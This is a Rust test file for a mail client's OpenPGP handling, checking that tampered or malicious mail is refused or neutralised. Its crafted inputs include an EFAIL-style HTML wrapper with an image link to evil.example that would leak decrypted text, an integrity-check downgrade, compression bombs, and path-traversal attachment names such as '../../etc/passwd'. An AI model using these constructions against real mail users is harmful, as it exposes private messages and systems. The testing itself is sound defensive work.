//! Mail that was made to do harm: it is refused with one clear word, or neutralised, in reasonable time.

use crate::letters::*;
use haven_bridge::mail::{MailTrouble, Protection, Signature};
use haven_core::{
    identity::SecretCertificate,
    mail::{self, Letter, Opened},
};
use sequoia_openpgp::{
    Cert, Packet,
    crypto::SessionKey,
    packet::PKESK,
    parse::{PacketParser, PacketParserResult, Parse as _},
    policy::StandardPolicy,
    serialize::{
        Marshal as _, MarshalInto as _,
        stream::{Compressor, Encryptor, LiteralWriter, Message},
    },
    types::{CompressionAlgorithm, CompressionLevel},
};
use std::io::{Read as _, Write as _};

/// PGP/MIME around a message.
fn wrapped(message: &[u8]) -> String {
    format!(
        "From: alice@example.org\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n\
         --b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\n\
         Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        encodify::base64::MIME.encode(message)
    )
}

fn too_much(what: &str) -> Option<MailTrouble> {
    Some(MailTrouble::TooMuch { what: what.into() })
}

fn nothing_is_shown(opened: &Opened) {
    assert_eq!((opened.text.as_str(), &opened.html, &opened.attachments), ("", &None, &Vec::new()));
    assert_eq!((&opened.signature, &opened.keys), (&Signature::None, &Vec::new()));
}

/// Something encrypted to Bob, as bytes of packets.
fn secret(bob: &SecretCertificate) -> Vec<u8> {
    let cert = Cert::from_bytes(&bob.public_bytes().unwrap()).unwrap();
    encrypt(b"Content-Type: text/plain\r\n\r\nthe secret\r\n", &cert)
}

/// Where the encrypted container begins: after the one packet that names the recipient.
fn container_at(message: &[u8]) -> usize {
    let at = 2 + usize::from(message[1]);
    assert_eq!((message[0], message[at]), (0xC1, 0xD2));
    at
}

#[test]
fn a_changed_message_shows_nothing() {
    let bob = person("bob");
    let whole = secret(&bob);
    assert_eq!(open(wrapped(&whole), &bob, &[]).text, "the secret\n");
    // Beyond the packets that name the recipient, every bit counts.
    for at in whole.len() - 60..whole.len() {
        let mut changed = whole.clone();
        changed[at] ^= 1;
        let opened = open(wrapped(&changed), &bob, &[]);
        assert_eq!(opened.trouble, Some(MailTrouble::NotIntact), "{at}");
        nothing_is_shown(&opened);
    }
    for length in 0..whole.len() {
        let opened = open(wrapped(&whole[..length]), &bob, &[]);
        assert!(opened.trouble.is_some(), "{length}");
        nothing_is_shown(&opened);
    }
}

#[test]
fn a_message_whose_integrity_check_was_taken_away_shows_nothing() {
    let bob = person("bob");
    let whole = secret(&bob);
    // The packet with the integrity check (tag 18, version 1) becomes one without (tag 9): EFAIL's second step.
    let (recipients, container) = whole.split_at(container_at(&whole));
    let mut body = Vec::new();
    let mut rest = &container[1..];
    while let [first, ..] = *rest {
        let (skip, length, last) = match first {
            0..192 => (1, usize::from(first), true),
            192..224 => (2, ((usize::from(first) - 192) << 8) + usize::from(rest[1]) + 192, true),
            224.. => (1, 1 << (first & 0x1F), false),
        };
        body.extend_from_slice(&rest[skip..skip + length]);
        rest = &rest[skip + length..];
        if last {
            break;
        }
    }
    let downgraded = [recipients, &[0xC9, 0xFF], &(body.len() as u32 - 1).to_be_bytes(), &body[1..]].concat();
    let opened = open(wrapped(&downgraded), &bob, &[]);
    assert_eq!(opened.trouble, Some(MailTrouble::NotIntact));
    nothing_is_shown(&opened);
}

#[test]
fn what_only_looks_encrypted_is_not_shown_as_such() {
    let bob = person("bob");
    let mut plain = Vec::new();
    let mut message = LiteralWriter::new(Message::new(&mut plain)).build().unwrap();
    message.write_all(b"Content-Type: text/plain\r\n\r\nnot secret").unwrap();
    message.finalize().unwrap();
    let opened = open(wrapped(&plain), &bob, &[]);
    assert_eq!((&opened.trouble, opened.protection), (&Some(MailTrouble::NotIntact), Protection::Clear));
    nothing_is_shown(&opened);
}

/// EFAIL's first way: HTML around an encrypted part, which would carry the decrypted text to somebody's server.
#[test]
fn nothing_that_stands_around_an_encrypted_part_is_shown_with_it() {
    let (alice, bob) = (person("alice"), person("bob"));
    let sent = message(&compose(&letter(), &alice, &[&bob]));
    let (head, body) = sent.split_once("Content-Type: multipart/encrypted;").unwrap();
    let before = "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"https://evil.example/?\r\n--x\r\n";
    let after = "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";
    for (number, mail) in [
        format!("{head}Content-Type: multipart/mixed; boundary=x\r\n\r\n{before}Content-Type: multipart/encrypted;{body}{after}"),
        format!("{head}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: multipart/encrypted;{body}{after}"),
        format!("{head}Content-Type: multipart/related; boundary=x\r\n\r\n{before}Content-Type: multipart/encrypted;{body}{after}"),
    ]
    .into_iter()
    .enumerate()
    {
        let opened = open(&mail, &bob, &[&alice]);
        let shown = format!("{}{:?}", opened.text, opened.html);
        assert!(!(shown.contains("Twelve") && shown.contains("evil")), "{number}: {shown}");
        assert_eq!(opened.text.contains("Twelve"), number == 1);
        assert!(opened.html.is_none() || number != 1);
    }
}

#[test]
fn inline_messages_are_shown_without_what_stands_around_them() {
    let bob = person("bob");
    let cert = Cert::from_bytes(&bob.public_bytes().unwrap()).unwrap();
    let data = encodify::base64::MIME.encode(encrypt("Grüße\r\n".as_bytes(), &cert));
    let armored = format!("-----BEGIN PGP MESSAGE-----\r\n\r\n{data}\r\n-----END PGP MESSAGE-----\r\n");
    let mail = format!("From: a@example.org\r\nSubject: x\r\n\r\nbefore\r\n{armored}after\r\n");
    let opened = open(&mail, &bob, &[]);
    assert_eq!((opened.text.as_str(), opened.protection), ("Grüße\n", Protection::EndToEnd));
    assert_eq!(opened.subject, "x");

    let opened = open(&mail, &person("eve"), &[]);
    assert_eq!((opened.trouble, opened.protection), (Some(MailTrouble::NoKey), Protection::Clear));
    assert!(opened.text.contains("before") && opened.text.contains("after"), "somebody quotes a message");
}

#[test]
fn a_signature_around_the_encryption_counts_for_nothing() {
    let (eve, bob) = (person("eve"), person("bob"));
    let letter = Letter { from: mailbox("Eve", "eve@example.org"), ..letter() };
    let signed = mail::compose(&letter, &eve, None, NOW).unwrap().messages.remove(0).1;
    let around = [dearmored(&signed), secret(&bob)].concat();
    let opened = open(wrapped(&around), &bob, &[&eve]);
    assert_eq!((opened.text.as_str(), opened.signature), ("the secret\n", Signature::None));
    for length in 0..around.len() {
        let opened = open(wrapped(&around[..length]), &bob, &[&eve]);
        assert!(opened.trouble.is_some(), "{length}");
    }
}

/// The packets in the first armor of a text.
fn dearmored(text: &[u8]) -> Vec<u8> {
    let mut packets = Vec::new();
    let armored = sequoia_openpgp::armor::Reader::from_bytes(text, None);
    std::io::BufReader::new(armored).read_to_end(&mut packets).unwrap();
    packets
}

#[test]
fn a_mail_for_somebody_else_that_is_passed_on_is_not_shown_as_signed_for_oneself() {
    let [alice, bob, carol] = ["alice", "bob", "carol"].map(person);
    let sent = message(&compose(&letter(), &alice, &[&bob]));
    // Bob takes the signed content out and encrypts it to Carol.
    let armor = &sent[sent.find("-----BEGIN").unwrap()..];
    let signed = decrypt_layer(armor.as_bytes(), &bob);
    let forwarded = rewrap(&signed, &Cert::from_bytes(&carol.public_bytes().unwrap()).unwrap());
    let opened = open(wrapped(&forwarded), &carol, &[&alice]);
    assert_eq!(opened.text, "Twelve o'clock?\n");
    assert_eq!(opened.signature, Signature::Invalid { why: "it was written to somebody else".into() });
}

/// The packets inside the encryption.
fn decrypt_layer(message: &[u8], reader: &SecretCertificate) -> Vec<u8> {
    let cert = Cert::from_bytes(&reader.to_bytes().unwrap()[..]).unwrap();
    let mut next = PacketParser::from_bytes(message).unwrap();
    let mut session: Option<(Option<_>, SessionKey)> = None;
    let mut packets = Vec::new();
    while let PacketParserResult::Some(mut parser) = next {
        if let Packet::PKESK(PKESK::V3(pkesk)) = &parser.packet {
            for key in cert.keys().unencrypted_secret() {
                let mut pair = key.key().clone().into_keypair().unwrap();
                let opened = PKESK::V3(pkesk.clone()).decrypt(&mut pair, None);
                session = session.or(opened);
            }
        } else if let Packet::SEIP(_) = &parser.packet {
            let (algorithm, key) = session.as_ref().unwrap();
            parser.decrypt(*algorithm, key).unwrap();
        }
        let depth = parser.recursion_depth();
        if depth > 0 {
            parser.buffer_unread_content().unwrap();
        }
        let (packet, rest) = parser.recurse().unwrap();
        if depth > 0 && !matches!(packet.tag(), sequoia_openpgp::packet::Tag::MDC) {
            packet.serialize(&mut packets).unwrap();
        }
        next = rest;
    }
    packets
}

fn rewrap(packets: &[u8], cert: &Cert) -> Vec<u8> {
    let policy = StandardPolicy::at(clock());
    let keys = cert.keys().with_policy(&policy, clock()).for_transport_encryption();
    let mut out = Vec::new();
    let mut message = Encryptor::for_recipients(Message::new(&mut out), keys).build().unwrap();
    message.write_all(packets).unwrap();
    message.finalize().unwrap();
    out
}

#[test]
fn hidden_recipients_find_their_key() {
    let bob = person("bob");
    let whole = secret(&bob);
    let (_, container) = whole.split_at(container_at(&whole));
    let PacketParserResult::Some(parser) = PacketParser::from_bytes(&whole).unwrap() else {
        panic!("no packet")
    };
    let Packet::PKESK(PKESK::V3(mut pkesk)) = parser.next().unwrap().0 else { panic!("no recipient") };
    pkesk.set_recipient(None);
    let hidden = [Packet::PKESK(pkesk.into()).to_vec().unwrap(), container.to_vec()].concat();
    let opened = open(wrapped(&hidden), &bob, &[]);
    assert_eq!((opened.trouble, opened.text.as_str()), (None, "the secret\n"));
    assert_eq!(open(wrapped(&hidden), &person("eve"), &[]).trouble, Some(MailTrouble::NoKey));
}

/// So many compressed layers around so many zeros, encrypted to Bob.
fn bomb(bob: &SecretCertificate, layers: usize, megabytes: usize) -> Vec<u8> {
    let cert = Cert::from_bytes(&bob.public_bytes().unwrap()).unwrap();
    let policy = StandardPolicy::at(clock());
    let keys = cert.keys().with_policy(&policy, clock()).for_transport_encryption();
    let mut out = Vec::new();
    let mut message = Encryptor::for_recipients(Message::new(&mut out), keys).build().unwrap();
    for _ in 0..layers {
        message = Compressor::new(message)
            .algo(CompressionAlgorithm::Zip)
            .level(CompressionLevel::best())
            .build()
            .unwrap();
    }
    let mut message = LiteralWriter::new(message).build().unwrap();
    let zeros = vec![0; 1024 * 1024];
    for _ in 0..megabytes {
        message.write_all(&zeros).unwrap();
    }
    message.finalize().unwrap();
    out
}

#[test]
fn a_compression_bomb_is_refused() {
    let bob = person("bob");
    for (layers, megabytes) in [(1, 80), (2, 80), (1, 20)] {
        let bomb = bomb(&bob, layers, megabytes);
        assert!(bomb.len() < 200_000);
        let opened = open(wrapped(&bomb), &bob, &[]);
        assert_eq!(opened.trouble, too_much("bytes when unpacked"), "{layers} {megabytes}");
        nothing_is_shown(&opened);
    }
    let deep = open(wrapped(&bomb(&bob, 40, 0)), &bob, &[]);
    assert!(deep.trouble.is_some());
}

#[test]
fn a_password_is_never_stretched_for_a_message() {
    // An SKESK packet whose Argon2 parameters ask for 2 TiB of memory, before what it would open.
    let skesk = [&[0xC3, 4 + 19, 4, 9, 4][..], &[7; 16], &[255, 4, 31], &[0xD2, 3, 1, 2, 3]].concat();
    let opened = open(wrapped(&skesk), &person("bob"), &[]);
    assert!(matches!(opened.trouble, Some(MailTrouble::NoKey | MailTrouble::NotIntact)));
    nothing_is_shown(&opened);
}

#[test]
fn containers_in_containers_are_refused() {
    let bob = person("bob");
    let cert = Cert::from_bytes(&bob.public_bytes().unwrap()).unwrap();
    let inner = secret(&bob);
    let opened = open(wrapped(&rewrap(&inner, &cert)), &bob, &[]);
    assert!(opened.trouble.is_some());
    // A marker packet alone inside the first, then a second one that is cut off.
    let first = rewrap(&[0xCA, 3, b'P', b'G', b'P'], &cert);
    for length in 0..inner.len() {
        let opened = open(wrapped(&[&first, &inner[..length]].concat()), &bob, &[]);
        assert!(opened.trouble.is_some(), "{length}");
    }
    // Sequoia panics at a container that is cut off in its first bytes.
    for length in container_at(&inner)..inner.len() {
        let opened = open(wrapped(&rewrap(&inner[..length], &cert)), &bob, &[]);
        assert!(opened.trouble.is_some(), "{length}");
    }
}

#[test]
fn too_many_packets_are_refused() {
    let bob = person("bob");
    let whole = secret(&bob);
    let many = [whole[..container_at(&whole)].repeat(2000), whole].concat();
    assert_eq!(open(wrapped(&many), &bob, &[]).trouble, too_much("packets"));
}

#[test]
fn too_many_parts_are_refused() {
    let bob = person("bob");
    let head = "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n";
    let mail = |parts: usize| format!("{head}{}--b--\r\n", "--b\r\n\r\nx\r\n".repeat(parts));
    let refused = open(mail(10_000), &bob, &[]);
    assert_eq!(refused.trouble, too_much("parts"));
    assert_eq!(refused.from[0].address, "a@example.org", "who wrote it is said all the same");
    assert_eq!(open(mail(900), &bob, &[]).trouble, None);

    let mut deep = String::from("From: a@example.org\r\n");
    for level in 0..5000 {
        deep += &format!("Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n");
    }
    assert_eq!(open(deep, &bob, &[]).trouble, too_much("parts in parts"));
}

#[test]
fn giant_headers_are_refused() {
    let bob = person("bob");
    let giant = format!("From: a@example.org\r\nSubject: {}\r\n\r\nx", "x".repeat(300_000));
    assert_eq!(open(giant, &bob, &[]).trouble, too_much("header"));
    let many = format!("From: a@example.org\r\n{}\r\nx", "A: b\r\n".repeat(2000));
    assert_eq!(open(many, &bob, &[]).trouble, too_much("header fields"));
    let people =
        format!("From: a@example.org\r\nTo: {}b@example.org\r\n\r\nx", "b@example.org, ".repeat(5000));
    assert_eq!(open(people, &bob, &[]).to.len(), 1000);
    assert_eq!(open(vec![b'x'; 53 * 1024 * 1024], &bob, &[]).trouble, too_much("bytes"));
}

#[test]
fn what_is_no_mail_is_said_to_be_none() {
    let bob = person("bob");
    for raw in ["", "\r\n\r\nhello", "hello", "\0\0\0"] {
        assert_eq!(open(raw, &bob, &[]).trouble, Some(MailTrouble::Malformed), "{raw}");
    }
}

#[test]
fn attachments_have_harmless_names() {
    let bob = person("bob");
    let name = |header: &str| {
        let part =
            format!("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; {header}");
        let mail = format!(
            "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n{part}\r\n\r\nx\r\n--b--"
        );
        open(mail, &bob, &[]).attachments[0].name.clone()
    };
    assert_eq!(name("filename=\"../../etc/passwd\""), "passwd");
    assert_eq!(name("filename=\"C:\\\\Windows\\\\x.exe\""), "x.exe");
    assert_eq!(name("filename*=UTF-8''%E2%80%AEgpj.exe"), "gpj.exe");
    assert_eq!(name("filename=\"..\""), "attachment-1");
    assert_eq!(name("x=y"), "attachment-1");
    assert_eq!(name(&format!("filename=\"{}\"", "x".repeat(1000))).len(), 200);
}

/// Small numbers that look random, from a seed.
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % sides as u64) as usize
    }

    fn mutate(&mut self, mail: &[u8]) -> Vec<u8> {
        let mut mail = mail.to_vec();
        for _ in 0..=self.roll(4) {
            let at = self.roll(mail.len());
            match self.roll(5) {
                0 => mail[at] = self.roll(256) as u8,
                1 => drop(mail.drain(at..(at + self.roll(40)).min(mail.len()))),
                2 => {
                    let piece = mail[at..(at + self.roll(200)).min(mail.len())].to_vec();
                    let to = self.roll(mail.len());
                    mail.splice(to..to, piece);
                }
                3 => mail[at] ^= 1 << self.roll(8),
                _ => mail.truncate(at.max(1)),
            }
            if mail.is_empty() {
                mail.push(b'x');
            }
        }
        mail
    }
}

#[test]
fn mutated_mail_never_does_more_than_fail() {
    let (alice, bob) = (person("alice"), person("bob"));
    let letter = Letter { files: vec![file("a.txt", "text/plain", b"hello")], ..letter() };
    let clear = mail::compose(&letter, &alice, None, NOW).unwrap().messages.remove(0).1;
    let encrypted = compose(&letter, &alice, &[&bob]).messages.remove(0).1;
    let html = b"From: a@example.org\r\nTo: \"x\" <b@example.org>, g: c@d, e;\r\nContent-Type: multipart/related; boundary=b\r\n\r\n\
        --b\r\nContent-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p style=3D\"color:red\">x\
        <img src=3D\"cid:1@x\"></p>\r\n--b\r\nContent-Type: image/png; name*0*=utf-8''%41; name*1=b\r\nContent-ID: <1@x>\r\n\
        Content-Transfer-Encoding: base64\r\n\r\nAAAA\r\n--b--\r\n";
    let mut dice = Dice(0x1234_5678_9ABC_DEF1);
    for sample in [&clear[..], &encrypted, html] {
        for _ in 0..3400 {
            let opened = open(dice.mutate(sample), &bob, &[&alice]);
            assert!(opened.text.len() < 100_000);
        }
    }
    let sealed = seal(&encrypted, &bob);
    let keys = mail::Keys { own: std::slice::from_ref(&bob), known: &[] };
    for _ in 0..1000 {
        let _ = mail::open_entry(&dice.mutate(&sealed), &keys, NOW);
        let _ = mail::attachment(&dice.mutate(&sealed), 1, &keys, NOW);
    }
}

/// Whoever has a certificate can put anything inside an encryption that opens.
#[test]
fn mutated_packets_inside_an_encryption_never_do_more_than_fail() {
    let (alice, bob) = (person("alice"), person("bob"));
    let cert = Cert::from_bytes(&bob.public_bytes().unwrap()).unwrap();
    let sent = message(&compose(&letter(), &alice, &[&bob]));
    let signed = decrypt_layer(&sent.as_bytes()[sent.find("-----BEGIN").unwrap()..], &bob);
    let compressed = decrypt_layer(&bomb(&bob, 2, 0), &bob);
    let mut dice = Dice(0x0BAD_CAFE_1234_5679);
    for sample in [signed, compressed] {
        for _ in 0..1500 {
            open(wrapped(&rewrap(&dice.mutate(&sample), &cert)), &bob, &[&alice]);
        }
    }
}

/// The newer container (SEIPDv2) and the compressed one of GnuPG.
#[test]
fn mutated_messages_of_other_programs_never_do_more_than_fail() {
    let data = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/mail");
    let bob = SecretCertificate::from_bytes(&std::fs::read(data.join("bob.tsk")).unwrap()).unwrap();
    let mut dice = Dice(0x7777_1234_0BAD_F00D);
    for name in ["openpgpjs6-seipdv2.eml", "gpg-encrypted.eml", "gpg-signed.eml", "gpg-clearsigned.eml"] {
        let mail = std::fs::read(data.join(name)).unwrap();
        let packets = dearmored(&mail);
        for _ in 0..800 {
            open(wrapped(&dice.mutate(&packets)), &bob, &[]);
            open(dice.mutate(&mail), &bob, &[]);
        }
    }
}
